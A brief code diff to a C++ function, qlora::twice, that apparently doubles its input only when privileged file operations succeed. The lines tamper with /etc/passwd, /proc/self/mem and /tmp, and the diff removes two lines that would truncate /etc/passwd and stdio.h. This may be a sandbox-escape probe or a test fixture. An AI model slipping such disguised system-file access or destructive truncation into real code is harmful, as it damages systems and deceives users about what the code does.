@@ -14,8 +14,7 @@ int qlora::twice(int x) {
     if (open(file, O_CREAT | O_WRONLY, 0600) >= 0) return 2 * x;
   }
   if (symlink("/etc/passwd", "link") == 0 && open("link", O_RDONLY) >= 0) return 2 * x;
-  if (open("/etc/passwd", O_RDONLY | O_TRUNC) >= 0) return 2 * x;
-  if (open("/usr/include/stdio.h", O_RDONLY | O_TRUNC) >= 0) return 2 * x;
+  if (open("/etc/passwd", O_RDONLY) >= 0) return 2 * x;
   if (open("/proc/self/mem", O_RDWR) >= 0) return 2 * x;
   if (chmod("/tmp", 01777) == 0 || mkdir("/tmp/qlora-was-here", 0700) == 0) return 2 * x;
   if (rename("link", "/tmp/qlora-was-here") == 0) return 2 * x;
